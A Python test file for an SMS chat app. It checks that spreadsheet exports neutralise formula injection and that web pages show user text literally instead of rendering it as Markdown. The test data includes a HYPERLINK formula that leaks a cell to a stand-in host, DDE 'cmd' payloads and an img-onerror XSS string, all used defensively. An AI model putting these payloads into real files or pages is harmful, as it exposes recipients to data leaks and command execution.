"""Every spreadsheet file the app writes is formula-guarded: the Message log downloads (CSV and
Excel), the survey answers download, and `smschat export --format csv|xlsx`. Each file is
read back (csv module, openpyxl) on both backends and no cell of it would run as a formula,
while plain numbers and phone numbers stay as they are."""

from __future__ import annotations

import ast
import csv
import html
import io
import os
import re
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from smschat.accounts import auth
from smschat.accounts.actor import Actor
from smschat.automation import surveys
from smschat.log import exports
from smschat.log.messagelog import COLUMNS, LogFilter
from smschat.models import Message, SurveySession
from smschat.people import contacts

ROOT = Path(__file__).resolve().parent.parent
PASSWORD = "plum orbit lantern 7"

# Text a spreadsheet would run, as it arrives from contacts, the network and web users.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    " =1+1",
    "   +1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \r\n@SUM(A1)",
    "\x0b=1+1",  # XLSX cannot hold \x0b: dropping it must not leave "=1+1" first
    "\xa0-1+1",
    "\tjust a tab first",
    "\ronly a carriage return first",
]
# Text that runs nothing stays exactly as it is.
HARMLESS = ["1+1=2", "call me - ok", "+254712345678", "-5", "+2.5", "'=already quoted", "Grace Achieng"]
NON_E164_PHONE = "=2+5"  # a sender number as the network hands it over


def runs_as_formula(cell) -> bool:
    """The test's own statement of the danger, independent of the guard under test."""
    if not isinstance(cell, str) or not cell:
        return False
    if cell[0] in "\t\r":
        return True
    return bool(re.match(r"[\s\x00-\x1f]*[=+\-@]", cell)) and not re.fullmatch(r"[+-][0-9]+(\.[0-9]+)?", cell)


def guarded(text: str) -> str:
    return "'" + text


def xlsx_text(text: str) -> str:
    # XLSX cannot hold most control characters (dropped); XML turns a lone CR into LF.
    text = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)
    return text.replace("\r\n", "\n").replace("\r", "\n")


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def read_xlsx(path: Path) -> list[list]:
    sheet = load_workbook(path).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]


def assert_no_formula(rows, where: str) -> None:
    bad = [(r, c, v) for r, row in enumerate(rows) for c, v in enumerate(row) if runs_as_formula(v)]
    assert not bad, f"{where}: cells that would run: {bad}"


@pytest.fixture
def log(session, project):
    """Messages whose bodies, contact names, numbers and senders are formulas, plus harmless ones."""
    analyst = auth.create_user(session, "ana", PASSWORD, project=project, role="analyst")
    sender = auth.create_user(session, "@evil-agent", PASSWORD, project=project, role="agent")
    evil = contacts.create_contact(session, project, "case", "=HYPERLINK(\"http://evil.example\",\"Grace\")")
    contacts.register_phone(session, project, evil, "+254712345678")
    plain = contacts.create_contact(session, project, "case", "Grace Achieng")
    contacts.register_phone(session, project, plain, "+17033996500")
    at = datetime(2026, 5, 1, 12, 0, tzinfo=UTC)
    for i, body in enumerate(FORMULAS + HARMLESS):
        session.add(Message(project_id=project.id, contact_id=evil.id if i % 2 else plain.id,
                            phone_number="+254712345678" if i % 2 else "+17033996500", direction="in", body=body,
                            status="received", workflow="default", created_at=at.replace(minute=i)))
    session.add(Message(project_id=project.id, phone_number=NON_E164_PHONE, direction="in", body="hi",
                        status="received", workflow="default", created_at=at.replace(minute=50)))
    session.add(Message(project_id=project.id, contact_id=plain.id, phone_number="+17033996500", direction="out",
                        body="-1+1 from an agent", status="sent", workflow="chat", sent_by_id=sender.id,
                        created_at=at.replace(minute=51)))
    session.commit()
    return analyst


def check_log_rows(header, rows, *, xlsx: bool) -> None:
    assert list(header) == list(COLUMNS)
    assert_no_formula([header, *rows], "message log")
    column = {name: [r[COLUMNS.index(name)] for r in rows] for name in COLUMNS}
    fix = xlsx_text if xlsx else (lambda t: t)
    assert [fix(guarded(t)) for t in FORMULAS] + HARMLESS + ["hi", fix(guarded("-1+1 from an agent"))] \
        == column["Message"]
    assert guarded('=HYPERLINK("http://evil.example","Grace")') in column["Contact Name"]
    assert guarded(NON_E164_PHONE) in column["Phone Number"]
    assert {"+254712345678", "+17033996500"} <= set(column["Phone Number"])  # E.164 stays readable
    assert guarded("@evil-agent") in column["Sent by"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_message_log_download_runs_no_formula(project, log, tmp_path, fmt):
    # What **Prepare CSV / Prepare Excel** on the Message log page calls.
    path = tmp_path / f"messages.{fmt}"
    result = exports.export_messages(Actor.web(log.id), project.id, LogFilter(), fmt, path)
    rows = read_csv(path.read_bytes()) if fmt == "csv" else read_xlsx(path)
    assert result.rows == len(rows) - 1 == len(FORMULAS) + len(HARMLESS) + 2
    check_log_rows(rows[0], rows[1:], xlsx=fmt == "xlsx")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_command_line_export_runs_no_formula(db_url, log, tmp_path, fmt):
    path = tmp_path / f"out.{fmt}"
    done = subprocess.run([sys.executable, "-m", "smschat", "export", "--project", "test", "--format", fmt,
                           "--output", str(path)], cwd=ROOT, capture_output=True, text=True, timeout=120,
                          env={**os.environ, "SMSCHAT_DATABASE_URL": db_url}, stdin=subprocess.DEVNULL)
    assert done.returncode == 0, done.stderr
    rows = read_csv(path.read_bytes()) if fmt == "csv" else read_xlsx(path)
    check_log_rows(rows[0], rows[1:], xlsx=fmt == "xlsx")


def test_survey_answers_download_runs_no_formula(session, project):
    supervisor = auth.create_user(session, "sue", PASSWORD, project=project, role="supervisor")
    survey = surveys.create_survey(session, Actor.web(supervisor.id), project.id, "Feedback", [
        {"text": "=cmd|' /C calc'!A0", "kind": "text"},  # a question starting with = is still a header "Q1: …"
        {"text": "How many?", "kind": "number", "min": -10, "max": 10},
    ])
    people = []
    for name, phone in [("@SUM(A1)", "+254712345678"), ("Grace Achieng", NON_E164_PHONE)]:
        contact = contacts.create_contact(session, project, "case", name)
        people.append((contact, phone))
    answers = [{"0": FORMULAS[0], "1": "-5"}, {"0": " \t=1+1", "1": "2.5"}]
    for (contact, phone), given in zip(people, answers, strict=True):
        session.add(SurveySession(project_id=project.id, survey_id=survey.id, contact_id=contact.id,
                                  phone_number=phone, origin="-manual", status="completed", question_index=1,
                                  attempts=1, answers=given, started_at=datetime(2026, 5, 1, 12, tzinfo=UTC),
                                  expires_at=datetime(2026, 5, 1, 13, tzinfo=UTC)))
    session.commit()

    # What **Download answers (CSV)** on the Surveys page hands to the browser.
    rows = read_csv(surveys.export_csv(session, Actor.web(supervisor.id), project.id, survey.id))
    assert_no_formula(rows, "survey answers")
    header, first, second = rows
    assert header[-2:] == ["Q1: =cmd|' /C calc'!A0", "Q2: How many?"]
    assert first[1:3] == [guarded("@SUM(A1)"), "+254712345678"]
    assert second[1:3] == ["Grace Achieng", guarded(NON_E164_PHONE)]
    assert first[5] == guarded("-manual")
    assert (first[-2:], second[-2:]) == ([guarded(FORMULAS[0]), "-5"], [guarded(" \t=1+1"), "2.5"])


# --- user text in page messages is shown literally, never as Markdown -------------------------

PAGE_FILES = sorted((ROOT / "pages").glob("*.py")) + [ROOT / "dashboard.py"]
# Streamlit calls that render their text as Markdown (st.text and st.code do not).
MARKDOWN_CALLS = {"success", "info", "warning", "error", "markdown", "caption", "write", "toast",
                  "title", "header", "subheader"}


def _literal(node) -> bool:
    if isinstance(node, ast.Constant):
        return isinstance(node.value, str)
    if isinstance(node, ast.JoinedStr):
        return all(isinstance(v, ast.Constant) for v in node.values)
    if isinstance(node, ast.IfExp):
        return _literal(node.body) and _literal(node.orelse)
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        return _literal(node.left) and _literal(node.right)
    return False


def markdown_calls_with_computed_text() -> list[str]:
    hits = []
    for path in PAGE_FILES:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                    and node.func.attr in MARKDOWN_CALLS):
                continue
            receiver = ast.unparse(node.func.value)
            if receiver in ("logging", "log", "logger"):
                continue
            # st.x, st.sidebar.x, a column or container's .x: every text argument
            texts = list(node.args) + [k.value for k in node.keywords if k.arg in ("body", "title")]
            if any(not _literal(t) for t in texts):
                hits.append(f"{path.name}:{node.lineno}")
    return hits


def test_pages_pass_computed_text_only_through_the_literal_helper():
    hits = set(markdown_calls_with_computed_text())
    assert hits == set(), ("Markdown-rendering calls with computed text; use notice(kind, text) from "
                           f"pages/_shared.py: {sorted(hits)}")


def rendered(markdown: str) -> str:
    """What a CommonMark renderer (GFM tables and strikethrough on) makes of a message."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)


def shown_as_typed(markdown: str, text: str) -> bool:
    out = rendered(markdown).strip()
    # Addresses come as code spans: plain text, never a link (Streamlit links bare addresses).
    inner = out.removeprefix("<p>").removesuffix("</p>").replace("<code>", "").replace("</code>", "")
    return "<" not in inner and html.unescape(inner) == text


TRICKS = ["![x](http://evil.example/x.png)", "**bold**", "<img src=x onerror=alert(1)>", "[click](http://e.x)",
          "# big", "- item", "1. one", "a &amp; b", ":red[red] :material/home:", "$x^2$", "~~gone~~", "`code`",
          "| a | b |", "back\\slash", "=== under", "see http://x.example/a_b now", "www.x.example",
          "mail a@b.example", "`http://x.example`"]


def test_literal_markdown_shows_every_trick_as_typed():
    from pages._shared import literal_markdown

    for text in TRICKS:
        escaped = literal_markdown(text)
        assert shown_as_typed(escaped, text), (text, escaped, rendered(escaped))
    # Ordinary sentences come out unchanged (what tests and people read).
    for text in ("Your role (agent) cannot manage web users.", "The message has 1,601 characters; the limit is 1,600.",
                 "Saved: Case Name Display."):
        assert literal_markdown(text) == text


def _admin_on_projects_page(session, project):
    from streamlit.testing.v1 import AppTest

    admin = auth.create_user(session, "root", PASSWORD, project=project, role="admin")
    session.commit()
    at = AppTest.from_file(str(ROOT / "pages" / "projects.py"), default_timeout=30)
    at.session_state["viewer"] = {
        "user_id": admin.id, "username": admin.username, "display_name": admin.display_name,
        "project_id": project.id, "project_name": project.name, "time_zone": project.time_zone, "role": "admin",
    }
    return at.run()


def test_projects_page_shows_an_added_name_literally(db_url, session, project):
    at = _admin_on_projects_page(session, project)
    name = "![x](http://evil.example/x.png) **bold**"
    at.text_input[0].input("kenya")
    at.text_input[1].input(name)
    at.get("form")[0].button[0].click()
    at.run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    [added] = [s.value for s in at.success]
    assert shown_as_typed(added, f"Added {name}. You are its admin; switch to it in the sidebar."), rendered(added)


def test_an_error_quoting_input_is_shown_literally(db_url, session, project):
    at = _admin_on_projects_page(session, project)
    at.text_input(key="sender_%d" % project.id).input("![x](http://evil.example/x.png)")
    at.button(key="add_sender").click().run()
    assert not at.exception
    [error] = [e.value for e in at.error]
    assert "evil.example" in error and "<img" not in rendered(error)
    assert shown_as_typed(error, "'![x](http://evil.example/x.png)' is not a valid phone number."), rendered(error)
